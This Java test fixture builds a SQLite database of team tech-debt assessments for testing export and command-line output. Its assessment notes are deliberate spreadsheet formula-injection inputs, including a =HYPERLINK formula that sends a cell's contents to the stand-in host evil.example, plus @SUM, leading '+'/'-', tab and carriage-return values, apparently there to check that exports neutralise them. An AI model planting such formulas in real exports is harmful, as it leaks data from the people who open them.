package io.debtmeter.core.export;

import io.debtmeter.core.assessment.AssessmentStore;
import io.debtmeter.core.assessment.NewAssessment;
import io.debtmeter.core.storage.SqliteAssessmentStore;
import io.debtmeter.model.ActionItem;
import io.debtmeter.model.ActionStatus;
import io.debtmeter.model.Answer;
import io.debtmeter.model.Assessment;
import io.debtmeter.model.ItemResponse;
import io.debtmeter.model.Rubric;
import io.debtmeter.model.Team;
import io.debtmeter.testsupport.TestClock;
import io.debtmeter.testsupport.TestRubrics;
import io.debtmeter.testsupport.TestStores;

import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/**
 * A real SQLite database with every value known, for export and command-line tests.
 *
 * <p>Rubric "tiny" 1.0: one category c1 "One"; practices p1 "P1" and p2 "P2" on the scale
 * 0 No / 0.5 Half / 1 Yes; litmus l1 "L" with options yes (score 1) and no (score 0); grade bands
 * Good [0, 50) and Bad [50, 100].
 *
 * <ul>
 *   <li>Team "Search ranking", 2026-Q1 (2026-03-10, final): p1 = 0, p2 = 0.5, l1 = no, with hostile
 *       notes. Item scores 0, 0.5, 0 → maturity 100 × 0.5 / 3 = 16.666… (shown 16.7), debt index
 *       83.333… (shown 83.3), grade Bad.</li>
 *   <li>2026-Q2 (2026-06-10, draft): p1 = 1, p2 not applicable, l1 unanswered. Only p1 is scored:
 *       maturity 100, debt index 0.0, grade Good; coverage 1 answered, 1 n/a, 1 open (partial).</li>
 *   <li>Actions: "Add tools | *now*" on p1 raised in Q1, owner Ann, due 2026-04-01, done on
 *       2026-05-01; "+notify the team" on p2 raised in Q2, open, no owner.</li>
 *   <li>Team "Fraud": no assessments.</li>
 * </ul>
 */
public record ExportFixture(Path file, Team team, Team emptyTeam, Assessment q1, Assessment q2, ActionItem doneAction,
                            ActionItem openAction) {

    public static final String NOTE_HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    public static final String NOTE_SUM = "@SUM(A1:A9)";
    public static final String NOTE_ARITHMETIC = "-1+2";
    public static final String NOTE_TAB = "\tTabbed, with a comma";
    public static final String NOTE_MULTILINE = "\rline one\r\nline \"two\" | *bold* <b>x</b>";
    public static final String ACTION_DONE = "Add tools | *now*";
    public static final String ACTION_OPEN = "+notify the team";

    /** The storage tests' tiny rubric (p1, p2 on 0 / 0.5 / 1; litmus l1 yes / no; bands Good, Bad). */
    public static Rubric rubric() {
        return TestRubrics.tiny();
    }

    /** Creates the database at {@code file}. */
    public static ExportFixture create(Path file) {
        TestClock clock = new TestClock(Instant.parse("2026-03-10T09:00:00Z"));
        try (AssessmentStore store = TestStores.open(file, clock)) {
            Rubric rubric = rubric();
            Team team = store.createTeam("Search ranking");
            Team fraud = store.createTeam("Fraud");
            Assessment q1 = store.createAssessment(new NewAssessment(team.id(), rubric, LocalDate.of(2026, 3, 10),
                    "2026-Q1", List.of("Ann", "Bo"), Optional.empty()));
            store.saveResponse(q1.id(), response("p1", new Answer.Level(0), NOTE_HYPERLINK));
            store.saveResponse(q1.id(), response("p2", new Answer.Level(0.5), NOTE_SUM));
            store.saveResponse(q1.id(), response("l1", new Answer.Choice("no"), NOTE_ARITHMETIC));
            ActionItem done = store.addAction(q1.id(), "p1", ACTION_DONE, "Ann", Optional.of(LocalDate.of(2026, 4, 1)));
            q1 = store.finish(q1.id());
            clock.set(Instant.parse("2026-05-01T10:00:00Z"));
            done = store.updateAction(new ActionItem(done.id(), done.teamId(), done.raisedIn(), done.itemId(), done.text(),
                    done.owner(), done.due(), ActionStatus.DONE, done.createdAt(), done.updatedAt()));
            clock.set(Instant.parse("2026-06-10T09:00:00Z"));
            Assessment q2 = store.createAssessment(new NewAssessment(team.id(), rubric, LocalDate.of(2026, 6, 10),
                    "2026-Q2", List.of(), Optional.empty()));
            store.saveResponse(q2.id(), response("p1", new Answer.Level(1), NOTE_TAB));
            store.saveResponse(q2.id(), response("p2", new Answer.NotApplicable(), NOTE_MULTILINE));
            ActionItem open = store.addAction(q2.id(), "p2", ACTION_OPEN, "", Optional.empty());
            return new ExportFixture(file, team, fraud, q1, q2, done, open);
        }
    }

    private static ItemResponse response(String itemId, Answer answer, String note) {
        return new ItemResponse(itemId, Optional.of(answer), note, List.of(), Map.of(), false);
    }

    public AssessmentStore open() {
        return SqliteAssessmentStore.open(file);
    }
}
